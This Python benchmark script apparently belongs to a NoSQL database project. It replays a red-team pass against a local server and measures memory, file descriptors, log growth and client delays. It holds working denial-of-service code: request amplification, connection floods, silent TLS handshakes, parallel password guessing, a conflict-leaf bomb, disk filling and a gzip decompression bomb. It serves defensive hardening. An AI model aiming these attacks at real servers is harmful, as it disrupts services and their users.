#!/usr/bin/env python3
"""What the attacks of the red-team pass (issue 19) cost a `mynosql serve` process with its default limits, at the
pass's own scale: one line per attack with what the attacker got and what the server paid (peak RSS above its
idle RSS, file descriptors, seconds, log bytes) and how long a legitimate client on another address waited.

Run from the repository root (127.0.0.1 only; needs trustme and psutil, as the tests do)::

    .venv/bin/python bench/redteam.py                    # this checkout's src/
    .venv/bin/python bench/redteam.py --src OTHER/src    # another version (before a fix), for comparison
    .venv/bin/python bench/redteam.py --only bulk_get leaves

Every wait is bounded (a version that does not hold answers "timeout" or "reset", not a hang).
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import gzip
import http.client
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import psutil

ROOT = Path(__file__).resolve().parent.parent
PASSWORD = "correct horse battery"
LEGIT, ATTACKER = "127.0.0.1", "127.0.0.20"


def auth(user: str = "alice", password: str = PASSWORD) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


class Server:
    def __init__(self, src: str, work: Path, extra: list[str] | None = None, tls: bool = False) -> None:
        self.dir = Path(tempfile.mkdtemp(dir=work))
        users = self.dir / "users.txt"
        users.write_text(f"alice:{PASSWORD}\nbob:{PASSWORD}:reader\n")
        args = ["--credentials", str(users)]
        known = _serve_options(src)
        for i in range(0, len(extra or []), 2):  # an older version may not know every option
            if extra and extra[i] in known:
                args += extra[i:i + 2]
        self.ctx = None
        if tls:
            import ssl

            import trustme

            ca = trustme.CA()
            cert = ca.issue_cert("127.0.0.1")
            cert.private_key_and_cert_chain_pem.write_to_path(str(self.dir / "c.pem"))
            cert.private_key_pem.write_to_path(str(self.dir / "k.pem"))
            ca.cert_pem.write_to_path(str(self.dir / "ca.pem"))
            args += ["--cert", str(self.dir / "c.pem"), "--key", str(self.dir / "k.pem")]
            self.ctx = ssl.create_default_context(cafile=str(self.dir / "ca.pem"))
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            self.port = s.getsockname()[1]
        self.log = self.dir / "serve.log"
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "MyNoSQL", "-v", "serve", "--path", str(self.dir / "data"), "--db", "db",
             "--port", str(self.port), *args], stdout=self.log.open("wb"), stderr=subprocess.STDOUT,
            env={**os.environ, "PYTHONPATH": src}, stdin=subprocess.DEVNULL)
        deadline = time.monotonic() + 30
        while b"serving db on" not in self.log.read_bytes():
            if time.monotonic() > deadline or self.proc.poll() is not None:
                raise RuntimeError(self.log.read_text())
            time.sleep(0.05)  # a benchmark script, not a test: polls the log for the start line
        self.ps = psutil.Process(self.proc.pid)
        self.request("GET", "/db")  # alice logged in once (her hash is behind us)

    def request(self, method: str, path: str, body: Any = None, *, user: str | None = "alice",
                password: str = PASSWORD, source: str = LEGIT, raw: bytes | None = None,
                headers: dict[str, str] | None = None, timeout: float = 60) -> tuple[int | str, bytes, float]:
        t0 = time.monotonic()
        conn: http.client.HTTPConnection = http.client.HTTPConnection(
            "127.0.0.1", self.port, timeout=timeout, source_address=(source, 0)) if self.ctx is None else \
            http.client.HTTPSConnection("127.0.0.1", self.port, timeout=timeout, source_address=(source, 0),
                                        context=self.ctx)
        try:
            hdrs = {"Content-Type": "application/json", **(headers or {})}
            if user is not None:
                hdrs["Authorization"] = auth(user, password)
            conn.request(method, path, body=raw if raw is not None else None if body is None else
                         json.dumps(body).encode(), headers=hdrs)
            resp = conn.getresponse()
            return resp.status, resp.read(), time.monotonic() - t0
        except TimeoutError:
            return "timeout", b"", time.monotonic() - t0
        except (ConnectionError, http.client.HTTPException):
            return "reset", b"", time.monotonic() - t0
        finally:
            conn.close()

    def legit(self) -> str:
        status, _, took = self.request("GET", "/db", timeout=10)
        return f"{status} in {took:.2f} s"

    @contextmanager
    def peak_rss(self) -> Iterator[dict[str, float]]:
        """Samples the server's RSS every 10 ms: ``out["mb"]`` is the peak above the RSS at the start."""
        base = self.ps.memory_info().rss
        out = {"mb": 0.0}
        done = threading.Event()

        def sample() -> None:
            peak = base
            while not done.wait(0.01):
                peak = max(peak, self.ps.memory_info().rss)
            out["mb"] = (peak - base) / 1e6

        t = threading.Thread(target=sample)
        t.start()
        try:
            yield out
        finally:
            done.set()
            t.join()

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(30)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(30)


_HELP: dict[str, str] = {}


def _serve_options(src: str) -> str:
    if src not in _HELP:
        _HELP[src] = subprocess.run([sys.executable, "-m", "MyNoSQL", "serve", "--help"], capture_output=True,
                                    text=True, env={**os.environ, "PYTHONPATH": src}, timeout=60).stdout
    return _HELP[src]


def line(name: str, text: str) -> None:
    print(f"{name:<14} {text}", flush=True)


# -- the attacks -----------------------------------------------------------------------------------------------


def bulk_get(srv: Server) -> None:
    """3. A 7 MiB record named 150 times by one _bulk_get; the same by GET ?open_revs=[rev x 40]."""
    status, body, _ = srv.request("PUT", "/db/big", {"pad": "x" * (7 * 1024 * 1024)})
    rev = json.loads(body)["rev"]
    ask = json.dumps({"docs": [{"id": "big", "rev": rev}] * 150}).encode()
    with srv.peak_rss() as rss:
        status, data, took = srv.request("POST", "/db/_bulk_get?revs=true", raw=ask, source=ATTACKER, timeout=120)
    line("bulk_get", f"request {len(ask)} B -> {status}, answer {len(data) / 1e6:.1f} MB in {took:.2f} s, "
                     f"server RSS +{rss['mb']:.0f} MB")
    q = json.dumps([rev] * 40).replace(" ", "")
    with srv.peak_rss() as rss:
        status, data, took = srv.request("GET", f"/db/big?open_revs={q}", source=ATTACKER, timeout=120)
    line("open_revs", f"{status}, answer {len(data) / 1e6:.1f} MB in {took:.2f} s, server RSS +{rss['mb']:.0f} MB")


def idle_flood(srv: Server) -> None:
    """2, 6. 512 idle connections from one address (the default total cap), then a legitimate client."""
    log0 = srv.log.stat().st_size
    held = []
    for _ in range(600):
        try:
            held.append(socket.create_connection(("127.0.0.1", srv.port), timeout=5, source_address=(ATTACKER, 0)))
        except OSError:
            break
    time.sleep(0.5)  # let the server take them all in
    fds = srv.ps.num_fds()
    line("idle_flood", f"600 idle from one address: server holds {fds} fds; legitimate client: {srv.legit()}")
    t_end = time.monotonic() + 10  # 10 s of re-opening what is refused, as a flood does
    opened = 0
    while time.monotonic() < t_end:
        for c in held[:50]:
            c.close()
        del held[:50]
        for _ in range(50):
            try:
                held.append(socket.create_connection(("127.0.0.1", srv.port), timeout=5,
                                                     source_address=(ATTACKER, 0)))
                opened += 1
            except OSError:
                pass
    for c in held:
        c.close()
    time.sleep(0.5)
    line("flood_log", f"{opened} connections opened in 10 s: {srv.log.stat().st_size - log0} bytes of log, "
                      f"{srv.log.read_text().count('Traceback')} tracebacks")


def tls_silent(src: str, work: Path) -> None:
    """2. 1,100 TLS connections that never send a ClientHello."""
    srv = Server(src, work, tls=True)
    try:
        fds0 = srv.ps.num_fds()
        held = []
        for _ in range(1100):
            try:
                held.append(socket.create_connection(("127.0.0.1", srv.port), timeout=5,
                                                     source_address=(ATTACKER, 0)))
            except OSError:
                break
        time.sleep(0.5)
        fds = srv.ps.num_fds() - fds0
        legit = srv.legit()
        time.sleep(12)  # past the default handshake timeout (10 s)
        line("tls_silent", f"{len(held)} silent connections: server +{fds} fds; legitimate client: {legit}; "
                           f"after 12 s server +{srv.ps.num_fds() - fds0} fds")
        for c in held:
            c.close()
    finally:
        srv.stop()


async def _guesses(port: int, source: str, n: int, right_at: int | None = None) -> Counter[Any]:
    async def one(i: int) -> Any:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))
        except OSError:
            return "refused"
        try:
            password = PASSWORD if i == right_at else f"guess {i}"
            writer.write(f"GET /db HTTP/1.1\r\nHost: x\r\nAuthorization: {auth('alice', password)}\r\n"
                         "Connection: close\r\n\r\n".encode())
            got = await asyncio.wait_for(reader.readline(), 120)
            return int(got.split()[1]) if got else "reset"
        except (OSError, asyncio.TimeoutError, IndexError, ValueError):
            return "reset"
        finally:
            writer.close()

    return Counter(await asyncio.gather(*(one(i) for i in range(n))))


def guesses(src: str, work: Path) -> None:
    """4. 100 and 400 parallel guesses from one address; a logged-in client during guesses from 5 addresses."""
    for n, right in ((100, 95), (400, None)):
        srv = Server(src, work, ["--max-connections", "2000", "--max-connections-per-address", "2000"])
        try:
            t0 = time.monotonic()
            got = asyncio.run(_guesses(srv.port, ATTACKER, n, right))
            line("guesses", f"{n} parallel (right one #{right}): {dict(got)} in {time.monotonic() - t0:.1f} s")
        finally:
            srv.stop()
    srv = Server(src, work, ["--max-connections", "2000", "--max-connections-per-address", "2000"])
    try:
        flood = threading.Thread(target=lambda: [asyncio.run(_guesses(srv.port, f"127.0.0.{30 + k}", 100))
                                                 for k in range(5)])
        flood.start()
        waits = []
        while flood.is_alive() and len(waits) < 1000:
            waits.append(srv.request("GET", "/db", timeout=30)[2])
        flood.join()
        line("guess_flood", f"5 addresses x 100 guesses: logged-in client {len(waits)} reads, slowest "
                            f"{max(waits):.2f} s")
    finally:
        srv.stop()


def leaves(srv: Server, work: Path, src: str) -> None:
    """5. 2 x 10,000 conflicting leaves of one record (new_edits=false), then a mirror's own _bulk_get and a pull."""
    statuses: Counter[Any] = Counter()
    forbidden = 0
    t0 = time.monotonic()
    for batch in range(2):
        docs = [{"_id": "bomb", "_rev": f"1-{batch * 10_000 + i:032x}"} for i in range(10_000)]
        status, data, _ = srv.request("POST", "/db/_bulk_docs", {"docs": docs, "new_edits": False},
                                      source=ATTACKER, timeout=300)
        statuses[status] += 1
        if status == 201:
            forbidden += sum(1 for r in json.loads(data) if r.get("error") == "forbidden")
    status, data, took = srv.request("GET", "/db/_changes?style=all_docs", timeout=120)
    n = len(json.loads(data)["results"][0]["changes"]) if status == 200 else "?"
    line("leaf_bomb", f"_bulk_docs {dict(statuses)} in {time.monotonic() - t0:.1f} s, {forbidden} leaves refused; "
                      f"the record has {n} leaves; _changes {status} in {took:.2f} s")
    code = ("import sys, MyNoSQL; h = MyNoSQL.MyNoSQL(sys.argv[1], options=MyNoSQL.Options(background_sync=False));"
            "h.opendb('db'); r = h.pull(sys.argv[2], timeout=30); print(r['docs_written'], len(r['errors']),"
            " len(h.conflicts('bomb')) + 1)")
    url = f"http://alice:{PASSWORD.replace(' ', '%20')}@127.0.0.1:{srv.port}"
    t0 = time.monotonic()
    try:
        out = subprocess.run([sys.executable, "-c", code, str(Path(tempfile.mkdtemp(dir=work))), url],
                             env={**os.environ, "PYTHONPATH": src}, capture_output=True, text=True, timeout=120)
        if out.stdout.strip():
            written, errors, n = out.stdout.split()
            what = f"written {written}, errors {errors}, leaves {n}"
        else:
            what = (out.stderr.strip().splitlines() or ["?"])[-1][:150]
    except subprocess.TimeoutExpired:
        what = "no end within 120 s"
    line("leaf_pull", f"a pull from it: {what} ({time.monotonic() - t0:.1f} s)")


def local_docs(srv: Server) -> None:
    """7. 80 _local documents of 1 MB each, by a reader and by a replicator."""
    folder = srv.dir / "data" / "db"

    def size() -> int:
        return sum(p.stat().st_size for p in folder.iterdir() if p.is_file())

    before = size()
    got: Counter[Any] = Counter()
    for user in ("bob", "alice"):
        for i in range(80):
            got[(user, srv.request("PUT", f"/db/_local/{user}{i}", {"pad": "x" * 1_000_000}, user=user,
                                   source=ATTACKER)[0])] += 1
    line("local_docs", f"{dict(got)}; folder {before / 1e6:.1f} -> {size() / 1e6:.1f} MB")


def inflate(srv: Server) -> None:
    """8. 32 KiB of gzip inflating to 32 MiB of tiny JSON values, 4 at once, and a legitimate client meanwhile."""
    bomb = gzip.compress(b"[" + b"[]," * 11_000_000 + b"[]]", 9)
    results: list[Any] = []

    def send() -> None:
        results.append(srv.request("POST", "/db/_bulk_docs", raw=bomb, headers={"Content-Encoding": "gzip"},
                                   source=ATTACKER, timeout=120)[::2])

    waits = []
    with srv.peak_rss() as rss:
        senders = [threading.Thread(target=send) for _ in range(4)]
        for t in senders:
            t.start()
        while any(t.is_alive() for t in senders) and len(waits) < 1000:
            waits.append(srv.request("GET", "/db", timeout=30)[2])
        for t in senders:
            t.join()
    line("inflate", f"{len(bomb)} B x 4 -> {[r[0] for r in results]} in up to {max(r[1] for r in results):.2f} s; "
                    f"server RSS +{rss['mb']:.0f} MB; legitimate client slowest {max(waits or [0]):.2f} s")


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--src", default=str(ROOT / "src"), help="the src/ folder of the version to measure")
    ap.add_argument("--only", nargs="*", default=None,
                    help="bulk_get idle_flood tls_silent guesses leaves local_docs inflate")
    args = ap.parse_args(argv)
    work = Path(tempfile.mkdtemp(prefix="mynosql-redteam-"))
    wanted: Callable[[str], bool] = lambda name: args.only is None or name in args.only  # noqa: E731
    try:
        for name, needs_server in (("bulk_get", True), ("idle_flood", True), ("leaves", True),
                                   ("local_docs", True), ("inflate", True), ("tls_silent", False),
                                   ("guesses", False)):
            if not wanted(name):
                continue
            if not needs_server:
                (tls_silent if name == "tls_silent" else guesses)(args.src, work)
                continue
            srv = Server(args.src, work)
            try:
                if name == "leaves":
                    leaves(srv, work, args.src)
                else:
                    {"bulk_get": bulk_get, "idle_flood": idle_flood, "local_docs": local_docs,
                     "inflate": inflate}[name](srv)
            finally:
                srv.stop()
    finally:
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
